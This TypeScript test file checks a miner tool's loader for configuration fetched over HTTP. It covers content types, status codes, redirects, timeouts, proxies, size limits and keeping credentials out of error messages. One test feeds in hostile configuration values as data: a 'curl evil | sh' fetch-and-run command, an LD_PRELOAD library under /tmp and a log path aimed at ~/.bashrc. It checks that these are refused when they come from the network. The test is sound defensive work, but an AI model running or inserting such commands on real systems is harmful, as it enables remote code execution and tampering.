import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Server, ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { describeConfigError } from '../../command-line/texts/config-sentences.ts';
import { DEFAULT_CONFIG } from '../miner-config.ts';
import { printConfig } from './config-print.ts';
import { shownLocation } from './config-address.ts';
import { readConfigSource } from './config-source.ts';
import { serveHttps } from '../../tests/loopback-server.ts';

let server: Server;
let answer: (response: ServerResponse) => void;
interface Asked {
  readonly path: string | undefined;
  readonly accept: string | undefined;
  readonly authorization: string | undefined;
}
let asked: Asked | null;
let address = '';
beforeEach(async () => {
  asked = null;
  server = createServer((request, response) => {
    const { accept, authorization } = request.headers;
    asked = { path: request.url, accept, authorization };
    answer(response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/config`;
});
afterEach(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

const answering = (type: string, text: string) => (response: ServerResponse) => {
  response.writeHead(200, { 'content-type': type }).end(text);
};

it.each([
  ['./https://x?y', './https://x?y'],
  ['https://host/x', 'https://host/x'],
  ['HTTPS://me:pass@host/x?token#part', 'https://host/x?…'],
  // None of these is an address.
  ['http://me:p@ss@host:99999/x?token#part', 'http://host:99999/x'],
  ['http://host:99999/a#b\nc', 'http://host:99999/a'],
])('is shown without secrets: %j', (location, shown) => {
  expect(shownLocation(location)).toBe(shown);
});

describe('a configuration at an address', () => {
  it.each([
    ['application/json', '{"threadCount": 3}'],
    ['application/json; charset=utf-8', '{"threadCount": 3}'],
    ['application/x-yaml', 'threadCount: 3'],
    ['text/yaml', 'threadCount: 3'],
    ['text/yaml; was=json', 'threadCount: 3'],
    ['text/plain', 'threadCount: 3'],
  ])('is read by its content type %s', async (type, text) => {
    answer = answering(type, text);
    expect(await readConfigSource(address)).toEqual({
      ok: true,
      value: {
        origin: { kind: 'file', location: address },
        keys: { threadCount: 3 },
        repeated: [],
      },
    });
    expect(asked).toEqual({
      path: '/config',
      accept: 'application/x-yaml,text/yaml,application/json',
    });
  });

  it.each([
    [299, '', true],
    [300, 'Multiple Choices', false],
    [599, '', false],
  ])('is read with status %i, and what that means is known: %s', async (status, statusText, ok) => {
    answer = (response) => void response.writeHead(status, { 'content-type': 'text/yaml' }).end();
    const fault = { kind: 'status', status, statusText };
    const error = { kind: 'unreadable', location: address, fault };
    expect(await readConfigSource(address)).toMatchObject(ok ? { ok } : { ok, error });
  });

  it('is not taken from a server that no authority vouches for', async () => {
    const other = await serveHttps((_, response) => answering('text/yaml', '')(response));
    try {
      expect(await readConfigSource(`https://${other.address}/`)).toMatchObject({
        error: { fault: { kind: 'system', code: 'DEPTH_ZERO_SELF_SIGNED_CERT' } },
      });
    } finally {
      await other.close();
    }
  });

  it('is asked for with a connection that ends with the answer', async () => {
    answer = answering('text/yaml', '');
    const connected = once(server, 'connection') as Promise<[Socket]>;
    await readConfigSource(address);
    const [socket] = await connected;
    if (!socket.destroyed) await once(socket, 'close');
  });

  it.each<[string, (response: ServerResponse) => void]>([
    ['the server answered 404 Not Found', (response) => void response.writeHead(404).end()],
    ['is not valid JSON', answering('application/json', 'threadCount: 3')],
    ['key threadCount is "x": expected', answering('text/yaml', 'threadCount: x')],
    ['it is longer than 1048576 bytes', answering('text/yaml', '#'.repeat(1_048_577))],
    ['no complete answer within 200 ms', (response) => void response.writeHead(200).write('a')],
    ['socket hang up', (response) => response.destroy()],
  ])('is refused when %s', async (message, answering) => {
    answer = answering;
    const read = await readConfigSource(address, {
      timeoutMs: message.includes('200 ms') ? 200 : 5_000,
    });
    expect(!read.ok && describeConfigError(read.error)).toContain(message);
    expect(!read.ok && describeConfigError(read.error).startsWith(address)).toBe(true);
  });

  it.each([
    ['externalWorkerCommand', 'externalWorkerCommand: curl evil | sh'],
    ['externalWorkerCommands', 'externalWorkerCommands: [./w]'],
    ['externalWorkerEnvironment', 'externalWorkerEnvironment: {LD_PRELOAD: /tmp/x.so}'],
    ['logFile', 'logFile: /home/ada/.bashrc'],
    ['notifyWebhook', 'notifyWebhook: https://elsewhere.example/x'],
  ])('may name %s only where that is allowed', async (key, text) => {
    answer = answering('text/yaml', `worker: external\n${text}\n`);
    const refused = await readConfigSource(address);
    expect(refused).toEqual({ ok: false, error: { kind: 'from-network', location: address, key } });
    expect(!refused.ok && describeConfigError(refused.error)).toContain('--allow-remote-commands');
    const allowed = await readConfigSource(address, { allowRemoteCommands: true });
    expect(allowed).toMatchObject({ ok: true });
  });

  it('may be a full print, whose command is the default', async () => {
    answer = answering('text/yaml', printConfig({ config: DEFAULT_CONFIG }, 'full'));
    expect((await readConfigSource(address)).ok).toBe(true);
  });

  it('is decoded, and bounded as it is decoded', async () => {
    const zipped = (text: string) => (response: ServerResponse) => {
      const type = { 'content-type': 'text/yaml', 'content-encoding': 'gzip' };
      response.writeHead(200, type).end(gzipSync(text));
    };
    answer = zipped('threadCount: 3');
    expect(await readConfigSource(address)).toMatchObject({ value: { keys: { threadCount: 3 } } });
    answer = zipped('#'.repeat(20_000_000));
    expect(await readConfigSource(address)).toMatchObject({
      error: { fault: { kind: 'too-long' } },
    });
  });

  it('may be redirected on its host', async () => {
    let hops = 0;
    answer = (response) => {
      if (hops++ > 0) answering('text/yaml', 'threadCount: 3')(response);
      else response.writeHead(302, { location: '/moved' }).end();
    };
    expect(await readConfigSource(address)).toMatchObject({ value: { keys: { threadCount: 3 } } });
    expect(asked?.path).toBe('/moved');
    answer = (response) =>
      void response.writeHead(302, { location: 'http://127.0.0.2/x?key=hidden' }).end();
    const elsewhere = await readConfigSource(address);
    expect(!elsewhere.ok && describeConfigError(elsewhere.error)).toBe(
      `${address} cannot be read: status 302: redirects to http://127.0.0.2/x`,
    );
  });

  it('is given up when its time is over, however many redirects use it up', async () => {
    let hops = 0;
    answer = (response) => {
      hops += 1;
      const next = (): void => void response.writeHead(302, { location: `/${hops}` }).end();
      if (hops > 3) answering('text/yaml', 'threadCount: 3')(response);
      else setTimeout(next, 200);
    };
    const read = await readConfigSource(address, { timeoutMs: 400 });
    expect(read).toMatchObject({ error: { fault: { kind: 'timeout', timeoutMs: 400 } } });
  });

  it('is asked for through the proxy of the environment', async () => {
    answer = answering('text/yaml', 'threadCount: 3');
    const http_proxy = new URL(address).origin;
    const read = await readConfigSource('http://farm.example/heddle.yaml', {
      environment: { http_proxy },
    });
    expect(read).toMatchObject({ value: { keys: { threadCount: 3 } } });
    expect(asked?.path).toBe('http://farm.example/heddle.yaml');
    const none = await readConfigSource('https://farm.example/heddle.yaml', {
      environment: { https_proxy: 'socks5://me:hidden@127.0.0.1:9' },
    });
    const message = none.ok ? '' : describeConfigError(none.error);
    expect(message).toContain('https_proxy names 127.0.0.1:9, which is neither');
    expect(message).not.toContain('hidden');
  });

  it('gets the user name and the password of its address, which no message shows', async () => {
    const { host } = new URL(address);
    const location = `http://me:p%40ss%20word@${host}/config?token=t0ken#t0ken`;
    const shown = `http://${host}/config?…`;
    answer = answering('text/yaml', 'threadCount: 3');
    expect(await readConfigSource(location)).toMatchObject({
      value: { origin: { location: shown } },
    });
    expect(asked?.path).toBe('/config?token=t0ken');
    expect(asked?.authorization).toBe(`Basic ${Buffer.from('me:p@ss word').toString('base64')}`);

    const closed = 'http://me:hidden@127.0.0.1:1/x?token=hidden';
    const answers: readonly [string, (response: ServerResponse) => void][] = [
      [location, (response) => void response.writeHead(401).end()],
      [location, answering('text/yaml', 'threadCount: x')],
      [location, answering('application/json', '{')],
      [location, answering('text/yaml', 'logFile: /tmp/x')],
      [location, (response) => response.destroy()],
      [closed, answering('text/yaml', '')],
      ['http://me:hid/den@127.0.0.1/', answering('text/yaml', '')],
      ['http://me:hidden@127.0.0.1:99999/?hidden', answering('text/yaml', '')],
    ];
    for (const [at, given] of answers) {
      answer = given;
      const read = await readConfigSource(at);
      expect(read.ok).toBe(false);
      const message = read.ok ? '' : describeConfigError(read.error) + JSON.stringify(read.error);
      expect(message).not.toMatch(/me:|hid|den|p%40ss|p@ss|t0ken/);
      expect(message).toContain('127.0.0.1');
    }
  });

  it('is refused when no server answers or the address is none', async () => {
    const gone = await readConfigSource('http://127.0.0.1:1/x.yaml');
    expect(!gone.ok && describeConfigError(gone.error)).toMatch(
      /^http:\/\/127\.0\.0\.1:1\/x\.yaml cannot be read: /,
    );
    const none = await readConfigSource('http://');
    expect(!none.ok && describeConfigError(none.error)).toBe(
      'http:// cannot be read: it is not an address',
    );
  });
});
